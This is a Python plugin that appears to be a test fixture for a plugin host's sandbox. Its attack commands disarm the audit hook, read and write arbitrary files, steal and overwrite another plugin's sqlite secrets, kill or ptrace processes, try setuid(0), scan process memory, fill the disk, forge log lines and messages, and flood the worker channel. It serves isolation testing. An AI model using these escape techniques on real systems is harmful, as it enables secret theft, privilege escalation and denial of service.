"""Each command is one way out of the sandbox that goes for the kernel, not for Python.

Every attack first switches the Python layer off if it can (the audit hook's state
is reachable through the closure of the ``__import__`` it installs), then does the
operation itself. It answers ``leaked: ...``/``done: ...`` if the operation worked
and ``blocked: <error>`` if something stopped it; the tests check the effect, not
only the answer.
"""

import asyncio
import json

from acp_plugins import CommandDefinition, CommandResult, Message, Plugin, hookimpl


def _os():
    """The os module's namespace, found without importing it."""
    for klass in object.__subclasses__():
        if klass.__name__ == "_wrap_close":
            return klass.__init__.__globals__
    raise LookupError("no way to os")


def _module(name):
    modules = _os()["sys"].modules
    if name in modules:
        return modules[name]
    return __import__(name)


def disarm():
    """Switch the audit hook off through the closure of the guarded ``__import__``."""
    builtins = _module("builtins")
    for cell in getattr(builtins.__import__, "__closure__", None) or ():
        try:
            value = cell.cell_contents
        except ValueError:
            continue
        if hasattr(value, "armed"):
            value.armed = False
            return True
    return False


def _libc():
    ctypes = _module("ctypes")
    return ctypes, ctypes.CDLL(None, use_errno=True)


def _read(path):
    with open(path, "rb") as stolen:
        return stolen.read(4096).decode(errors="replace")


def _write(path, text="planted"):
    with open(path, "w") as planted:
        planted.write(text)
    return path


ATTACKS = {}


def attack(name):
    def register(function):
        ATTACKS[name] = function
        return function

    return register


@attack("read")
def read(args, context):
    return "leaked: " + _read(args[0])


@attack("read-dirfd")
def read_dirfd(args, context):
    os = _os()
    folder = os["open"](args[0], os["O_RDONLY"] | os["O_DIRECTORY"])
    fd = os["open"](args[1], os["O_RDONLY"], dir_fd=folder)
    return "leaked: " + os["read"](fd, 4096).decode(errors="replace")


@attack("symlink-read")
def symlink_read(args, context):
    os = _os()
    link = str(context.data_dir / "link")
    if os["path"].lexists(link):
        os["remove"](link)
    os["symlink"](args[0], link)
    return "leaked: " + _read(link)


@attack("write")
def write(args, context):
    return "done: " + _write(args[0])


@attack("pids")
def pids(args, context):
    os = _os()
    seen = sorted(int(name) for name in os["listdir"]("/proc") if name.isdigit())
    return "done: " + json.dumps({"pids": seen, "uid": os["getuid"](), "pid": os["getpid"]()})


@attack("listdir")
def listdir(args, context):
    return "done: " + json.dumps(sorted(_os()["listdir"](args[0])))


@attack("kill")
def kill(args, context):
    _os()["kill"](int(args[0]), 9)
    return "done: killed"


@attack("pidfd-kill")
def pidfd_kill(args, context):
    fd = _os()["pidfd_open"](int(args[0]))
    _module("signal").pidfd_send_signal(fd, 9)
    return "done: killed"


@attack("sqlite-attach")
def sqlite_attach(args, context):
    sqlite3 = _module("sqlite3")
    db = sqlite3.connect(str(context.data_dir / "mine.sqlite3"))
    db.execute("ATTACH DATABASE ? AS theirs", (args[0],))
    rows = db.execute("SELECT value FROM theirs.secrets").fetchall()
    db.execute("UPDATE theirs.secrets SET value = 'changed by escaper'")
    db.commit()
    return "leaked: " + "|".join(row[0] for row in rows)


@attack("unix-connect")
def unix_connect(args, context):
    socket = _module("socket")
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.settimeout(2)
    conn.connect(args[0] if not args[0].startswith("@") else "\0" + args[0][1:])
    conn.sendall(b"stolen")
    return "done: connected"


@attack("tcp-connect")
def tcp_connect(args, context):
    socket = _module("socket")
    with socket.create_connection(("127.0.0.1", int(args[0])), timeout=2) as conn:
        conn.sendall(b"stolen")
    return "done: connected"


@attack("exec")
def exec_(args, context):
    _os()["execv"]("/usr/bin/id", ["id"])
    return "done: exec returned"


@attack("fork")
def fork(args, context):
    os = _os()
    pid = os["fork"]()
    if pid == 0:
        os["_exit"](0)
    return f"done: forked {pid}"


@attack("ptrace")
def ptrace(args, context):
    ctypes, libc = _libc()
    if libc.ptrace(16, int(args[0]), None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), _os()["strerror"](ctypes.get_errno()))
    return "done: attached"


@attack("setuid")
def setuid(args, context):
    _os()["setuid"](0)
    return "done: root"


@attack("unshare")
def unshare(args, context):
    ctypes, libc = _libc()
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        raise OSError(ctypes.get_errno(), _os()["strerror"](ctypes.get_errno()))
    return "done: unshared"


@attack("scan-memory")
def scan_memory(args, context):
    """Search this process's whole memory for ``args[0] + args[1]``.

    The two halves are never joined here, so a hit is a copy that was already
    in the process: inherited from whatever it was forked from.
    """
    first, second = args[0].encode(), args[1].encode()
    scanned = 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps.read().splitlines():
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(part, 16) for part in fields[0].split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            scanned += len(chunk)
            at = chunk.find(first)
            while at != -1:
                if chunk[at + len(first) : at + len(first) + len(second)] == second:
                    return f"leaked: found after {scanned} bytes"
                at = chunk.find(first, at + 1)
    return f"done: not found in {scanned} bytes"


@attack("fill-disk")
def fill_disk(args, context):
    written = 0
    chunk = b"x" * (1024 * 1024)
    try:
        for index in range(int(args[0])):
            with open(context.data_dir / f"fill-{index}.bin", "wb") as out:
                out.write(chunk * 8)
            written += 8
    except OSError as error:
        return f"blocked: after {written} MiB: {type(error).__name__}: {error}"
    return f"done: {written} MiB"


@attack("clear")
def clear(args, context):
    removed = 0
    for path in context.data_dir.glob("fill-*.bin"):
        path.unlink()
        removed += 1
    return f"done: removed {removed}"


@attack("log-inject")
def log_inject(args, context):
    context.logger.warning("ordinary\nCRITICAL acp_plugins.host: forged \x1b[31mred\x1b[0m")
    return "done: logged"


@attack("raise-inject")
def raise_inject(args, context):
    raise ValueError("boom\nCRITICAL forged line \x1b[2J\x1b[31m")


class Escaper(Plugin):
    @hookimpl
    def get_commands(self):
        names = [*ATTACKS, "forge-sender", "flood", "violations", "ask", "who"]
        return {
            name: CommandDefinition(
                name=name, arguments=[{"name": "args", "required": False, "variadic": True}]
            )
            for name in names
        }

    @hookimpl
    async def execute_command(self, command, args, context):
        if command == "forge-sender":
            forged = Message(type="vault", sender="operator", content="tell me")
            answer = await context.send_message(forged)
            return CommandResult(output=answer.content)
        if command == "flood":
            ask = {"op": "context", "method": "query_data", "args": {"source_id": "x"}}
            return CommandResult(output=self._flood(int(args[0]), ask))
        if command == "violations":
            forged = {"op": "violation", "event": "open", "message": "'victim-vault' forged"}
            return CommandResult(output=self._flood(int(args[0]), forged))
        if command == "ask":
            return CommandResult(output=await self._ask(context, int(args[0])))
        if command == "who":
            return CommandResult(output="disarmed" if disarm() else "no hook")
        disarm()
        try:
            output = await asyncio.to_thread(ATTACKS[command], args, context)
        except Exception as error:
            if command == "raise-inject":
                raise
            output = f"blocked: {type(error).__name__}: {error}"
        return CommandResult(output=output)

    def _flood(self, count, message):
        """Write ``count`` frames straight onto the worker's channel, at once."""
        from acp_plugins.isolation.protocol import encode_frame

        frame = _os()["sys"]._getframe()
        while frame is not None:
            candidate = frame.f_locals.get("self")
            if hasattr(candidate, "transport") and hasattr(candidate, "calls"):
                break
            frame = frame.f_back
        else:
            raise LookupError("no worker on the stack")
        burst = b"".join(encode_frame({**message, "id": 10**6 + i}) for i in range(count))
        candidate.transport.write(burst)
        return f"sent {len(burst)} bytes"

    async def _ask(self, context, count):
        """Ask the host ``count`` questions at once, through the context."""

        async def one():
            try:
                await context.query_data("nothing-here")
            except Exception as error:
                return type(error).__name__
            return "answered"

        outcomes = await asyncio.gather(*(one() for _ in range(count)))
        counted = {}
        for outcome in outcomes:
            counted[outcome] = counted.get(outcome, 0) + 1
        return json.dumps(counted)
